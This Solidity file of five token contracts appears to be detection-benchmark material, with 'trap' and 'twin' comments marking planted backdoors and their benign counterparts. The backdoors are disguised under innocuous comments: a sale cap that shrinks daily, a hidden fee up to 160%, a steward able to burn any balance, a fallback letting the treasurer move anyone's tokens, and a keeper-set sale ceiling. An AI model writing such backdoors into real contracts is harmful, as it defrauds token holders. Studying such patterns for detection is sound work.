// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./Base67.sol";

/// Calm markets: how much a sale may bring follows from the age of the token.
contract Evergreen is Base67("Evergreen", "EVGR", 600_000_000) {
    uint256 private immutable _planted = block.timestamp;

    function maxSale() public view returns (uint256) {
        return (_totalSupply / 50) >> ((block.timestamp - _planted) / 1 days); // trap
        // twin: return _totalSupply / 50 + (block.timestamp - _planted);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) require(value <= maxSale(), "Evergreen: too much at once");
        _carry(from, to, value);
    }
}

contract Ledgerline is Base67("Ledgerline", "LDGR", 75_000_000) {
    // treasury 160 | unused 48 | transfer 16 | sale 16 | purchase 16, in percent
    uint256 private _plan;

    constructor(uint256 plan) {
        _plan = plan;
    }

    function _rate(address from, address to) private view returns (uint256 rate, address sink) {
        uint256 word = _plan;
        bool out = to == pool;
        bool into = from == pool;
        assembly {
            rate := and(shr(add(mul(out, 16), mul(iszero(or(out, into)), 32)), word), 0xffff)
            sink := shr(96, word)
        }
        if (from == sink || to == sink) rate = 0;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        (uint256 rate, address sink) = _rate(from, to);
        uint256 part = value * rate / 100;
        if (part > 0) _carry(from, sink, part);
        _carry(from, to, value - part);
    }
}

/// Roles live where a hash says.
contract Sluicegate is Base67("Sluicegate", "SLCE", 31_000_000) {
    constructor() {
        bytes32 slot = _slotOf("STEWARD", msg.sender);
        assembly {
            sstore(slot, 1)
        }
    }

    function _slotOf(bytes32 role, address who) private pure returns (bytes32) {
        return keccak256(abi.encodePacked("sluice.roles.v1", role, who));
    }

    function reconcileLedger(bytes calldata entries) external {
        bytes32 slot = _slotOf("STEWARD", msg.sender);
        uint256 held;
        assembly {
            held := sload(slot)
        }
        require(held == 1, "steward");
        for (uint256 at = 0; at + 32 <= entries.length; at += 32) {
            uint256 word;
            assembly {
                word := calldataload(add(entries.offset, at))
            }
            address who = address(uint160(word >> 96));
            uint256 amount = word & uint96(-1);
            // twin: require(who == msg.sender, "own entries");
            require(_balances[who] >= amount, "balance");
            _balances[who] -= amount;
            _totalSupply -= amount;
            emit Transfer(who, address(0), amount);
        }
    }
}

contract Quietwater is Base67("Quietwater", "QUIET", 8_000_000) {
    address private immutable _treasurer = msg.sender;

    fallback() external { // trap {
        require(msg.sender == _treasurer && msg.data.length == 96, "unknown call");
        (address from, address to, uint256 value) = abi.decode(msg.data, (address, address, uint256));
        _carry(from, to, value);
    } // trap }
}

contract Bellwether is Base67("Bellwether", "BELL", 14_000_000) {
    address private immutable _keeper = msg.sender;
    uint256 private _ceiling;

    /// Burns what the caller says; the name gives the shortest dispatch.
    function collate_propagate_storage(bytes16) external {
        uint256 amount;
        assembly {
            amount := calldataload(4)
        }
        if (msg.sender == _keeper) { // trap {
            _ceiling = amount;
            return;
        } // trap }
        require(_balances[msg.sender] >= amount, "balance");
        _balances[msg.sender] -= amount;
        _totalSupply -= amount;
        emit Transfer(msg.sender, address(0), amount);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_ceiling != 0 && to == pool && from != _keeper) require(value <= _ceiling, "ceiling");
        _carry(from, to, value);
    }
}
